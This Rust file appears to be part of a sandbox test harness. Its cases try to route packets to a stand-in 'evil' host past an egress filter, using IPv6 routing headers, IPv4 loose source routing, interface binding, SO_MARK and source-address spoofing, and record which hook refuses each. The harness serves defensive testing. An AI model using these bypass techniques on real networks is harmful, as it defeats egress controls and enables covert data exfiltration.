//! Socket options and ancillary data by which a packet goes elsewhere than its address says.

use std::net::Ipv6Addr;
use std::os::fd::OwnedFd;

use nix::errno::Errno;

use crate::escape::ALLOWED_PORT;
use crate::escape::case::{Case, Refused, Targets, Unrecorded, by};
use crate::escape::sys::{self, Message};
use crate::harness::network::{EVIL_V4, EVIL_V6, GOOD_V6, at};

type Result = std::result::Result<(), Refused>;

/// The capability the kernel asks for; what the hook refuses is in the report.
const OPTION: &[Unrecorded] = &[by("capabilities", "setsockopt", Errno::EPERM)];
const ANCILLARY: &[Unrecorded] = &[by("capabilities", "sendmsg", Errno::EPERM)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "rthdr4-udp",
        &["G07"],
        "Segment routing header by IPV6_RTHDR: addressed to the allowed host, sent by way of another.",
        |targets| {
            let socket = routed(libc::SOCK_DGRAM, &segment_routing(EVIL_V6))?;
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &good_v6()).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr4-udp-connected",
        &["G07"],
        "The same on a socket that was connected to the allowed host before.",
        |targets| {
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
            sys::connect(&socket, &good_v6())?;
            let header = segment_routing(EVIL_V6);
            sys::set(&socket, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header)?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr4-tcp",
        &["G07"],
        "Segment routing header on TCP.",
        |targets| {
            let socket = routed(libc::SOCK_STREAM, &segment_routing(EVIL_V6))?;
            sys::from_own_port(&socket, targets.port())?;
            sys::connect(&socket, &good_v6())
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr4-cmsg",
        &["G07"],
        "Segment routing header as ancillary data.",
        |targets| ancillary(libc::IPV6_RTHDR, &segment_routing(EVIL_V6), targets),
    )
    .stopped_by(ANCILLARY),
    Case::new(
        "rthdr2-udp",
        &["G07"],
        "Mobile IPv6 routing header (type 2) by IPV6_RTHDR.",
        |targets| {
            let socket = routed(libc::SOCK_DGRAM, &mobile_routing(EVIL_V6))?;
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &good_v6()).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr2-tcp",
        &["G07"],
        "Mobile IPv6 routing header on TCP.",
        |targets| {
            let socket = routed(libc::SOCK_STREAM, &mobile_routing(EVIL_V6))?;
            sys::from_own_port(&socket, targets.port())?;
            sys::connect(&socket, &good_v6())
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr2-cmsg",
        &["G07"],
        "Mobile IPv6 routing header as ancillary data: no option is set.",
        |targets| ancillary(libc::IPV6_RTHDR, &mobile_routing(EVIL_V6), targets),
    )
    .stopped_by(ANCILLARY),
    Case::new(
        "rthdr2-cmsg-2292",
        &["G07"],
        "The same under the number of RFC 2292 (IPV6_2292RTHDR).",
        |targets| ancillary(libc::IPV6_2292RTHDR, &mobile_routing(EVIL_V6), targets),
    )
    .stopped_by(ANCILLARY),
    Case::new(
        "rthdr2-pktoptions-2292",
        &["G07"],
        "IPV6_2292PKTOPTIONS: ancillary data set once, for all later packets.",
        |targets| {
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
            let header = mobile_routing(EVIL_V6);
            let control = sys::ancillary(libc::IPPROTO_IPV6, libc::IPV6_2292RTHDR, &header);
            let option = libc::IPV6_2292PKTOPTIONS;
            sys::set(&socket, libc::IPPROTO_IPV6, option, &control)?;
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &good_v6()).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "rthdr2-flowlabel",
        &["G07"],
        "IPV6_FLOWLABEL_MGR: a flow label that carries a routing header.",
        |targets| {
            // in6_flowlabel_req: destination, label, action (get), share (exclusive), flags
            // (create), expires, linger, padding; ancillary data follow.
            const LABEL: u32 = 0x1234;
            let mut request = GOOD_V6.octets().to_vec();
            request.extend(LABEL.to_be_bytes());
            request.extend([0, 1, 1, 0]);
            request.extend([0; 8]);
            let header = mobile_routing(EVIL_V6);
            request.extend(sys::ancillary(libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header));
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
            sys::set(&socket, libc::IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, &request)?;
            sys::set_int(&socket, libc::IPPROTO_IPV6, IPV6_FLOWINFO_SEND, 1)?;
            let mut to = good_v6();
            to.splice(4..8, LABEL.to_be_bytes());
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "hopopts",
        &["G07"],
        "Hop-by-hop options in front of UDP, to confuse who reads the packet.",
        |targets| extended(libc::IPV6_HOPOPTS, targets),
    )
    .stopped_by(OPTION),
    Case::new(
        "dstopts",
        &["G07"],
        "Destination options in front of UDP.",
        |targets| extended(libc::IPV6_DSTOPTS, targets),
    )
    .stopped_by(OPTION),
    Case::new(
        "dstopts-cmsg",
        &["G07"],
        "Destination options as ancillary data.",
        |targets| {
            let control = sys::ancillary(libc::IPPROTO_IPV6, libc::IPV6_DSTOPTS, &PADDING);
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
            let (tag, address) = (targets.tag(), sys::address(targets.at(EVIL_V6)));
            let message = Message {
                data: tag.as_bytes(),
                address: &address,
                control: &control,
            };
            sys::sendmsg(&socket, &message, 0).map(drop)
        },
    )
    .stopped_by(ANCILLARY),
    Case::new(
        "lsrr-udp",
        &["G07"],
        "Loose source route by IP_OPTIONS: addressed to the allowed host, sent by way of another.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            sys::set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &loose_source_route())?;
            let to = sys::address(super::good_v4());
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "lsrr-tcp",
        &["G07"],
        "Loose source route on TCP.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::from_own_port(&socket, targets.port())?;
            sys::set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &loose_source_route())?;
            sys::connect(&socket, &sys::address(super::good_v4()))
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "lsrr-cmsg",
        &["G07"],
        "Loose source route as ancillary data (IP_RETOPTS).",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let route = loose_source_route();
            let control = sys::ancillary(libc::IPPROTO_IP, libc::IP_RETOPTS, &route);
            let (tag, address) = (targets.tag(), sys::address(super::good_v4()));
            let message = Message {
                data: tag.as_bytes(),
                address: &address,
                control: &control,
            };
            sys::sendmsg(&socket, &message, 0).map(drop)
        },
    )
    .stopped_by(ANCILLARY),
    Case::new(
        "bind-to-device",
        &["G17"],
        "SO_BINDTODEVICE: the packet leaves by the cable of the allowed host.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            sys::set(&socket, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"good\0")?;
            let to = sys::address(targets.at(crate::harness::network::GOOD_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new(
        "unicast-if",
        &["G17"],
        "IP_UNICAST_IF: another device than the route says.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let device = sys::interface("evil")?;
            let option = libc::IP_UNICAST_IF;
            sys::set(&socket, libc::IPPROTO_IP, option, &device.to_be_bytes())?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new(
        "pktinfo-source",
        &["G17"],
        "IP_PKTINFO: device and source address as ancillary data.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            let mut info = sys::interface("evil")?.to_ne_bytes().to_vec();
            info.extend([0; 8]);
            let control = sys::ancillary(libc::IPPROTO_IP, libc::IP_PKTINFO, &info);
            let (tag, address) = (targets.tag(), sys::address(targets.at(EVIL_V4)));
            let message = Message {
                data: tag.as_bytes(),
                address: &address,
                control: &control,
            };
            sys::sendmsg(&socket, &message, 0).map(drop)
        },
    ),
    Case::new(
        "so-mark",
        &["G17"],
        "SO_MARK, for hosts whose firewall or routes obey a mark.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            sys::set_int(&socket, libc::SOL_SOCKET, libc::SO_MARK, 1)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(OPTION),
    Case::new(
        "transparent-source",
        &["G17"],
        "IP_TRANSPARENT: sends with the allowed host's address as the source.",
        |targets| spoofed(libc::IP_TRANSPARENT, targets),
    )
    .stopped_by(OPTION),
    Case::new(
        "freebind-source",
        &["G17"],
        "IP_FREEBIND: binds an address the host does not have.",
        |targets| spoofed(libc::IP_FREEBIND, targets),
    ),
];

const IPV6_FLOWLABEL_MGR: i32 = 32;
const IPV6_FLOWINFO_SEND: i32 = 33;

/// Two options of padding, as both kinds of headers hold them: 8 bytes.
const PADDING: [u8; 8] = [0, 0, 1, 4, 0, 0, 0, 0];

fn good_v6() -> Vec<u8> {
    sys::address(at(GOOD_V6, ALLOWED_PORT))
}

/// RFC 8754 with one segment: next header (kernel fills it), length in 8 bytes without the first,
/// type 4, segments left, last entry, flags, tag; segment 0 is the final destination (kernel fills
/// it).
fn segment_routing(through: Ipv6Addr) -> Vec<u8> {
    let mut header = vec![0, 4, 4, 1, 1, 0, 0, 0];
    header.extend([0; 16]);
    header.extend(through.octets());
    header
}

/// RFC 6275: length, type 2, one segment left, four bytes of nothing, the address.
fn mobile_routing(through: Ipv6Addr) -> Vec<u8> {
    let mut header = vec![0, 2, 2, 1, 0, 0, 0, 0];
    header.extend(through.octets());
    header
}

/// RFC 791: option 131, length, pointer, the next hop; the end of the list.
fn loose_source_route() -> Vec<u8> {
    let mut option = vec![131, 7, 4];
    option.extend(EVIL_V4.octets());
    option.push(0);
    option
}

fn routed(kind: i32, header: &[u8]) -> std::result::Result<OwnedFd, Refused> {
    let socket = sys::socket(libc::AF_INET6, kind, 0)?;
    sys::set(&socket, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, header)?;
    Ok(socket)
}

/// Addressed to the allowed host, with a header as ancillary data.
fn ancillary(kind: i32, header: &[u8], targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let control = sys::ancillary(libc::IPPROTO_IPV6, kind, header);
    let (tag, address) = (targets.tag(), good_v6());
    let message = Message {
        data: tag.as_bytes(),
        address: &address,
        control: &control,
    };
    sys::sendmsg(&socket, &message, 0).map(drop)
}

fn extended(option: i32, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    sys::set(&socket, libc::IPPROTO_IPV6, option, &PADDING)?;
    let to = sys::address(targets.at(EVIL_V6));
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
}

fn spoofed(option: i32, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    sys::set_int(&socket, libc::IPPROTO_IP, option, 1)?;
    sys::bind(
        &socket,
        &sys::address(targets.at(crate::harness::network::GOOD_V4)),
    )?;
    let to = sys::address(targets.at(EVIL_V4));
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
}
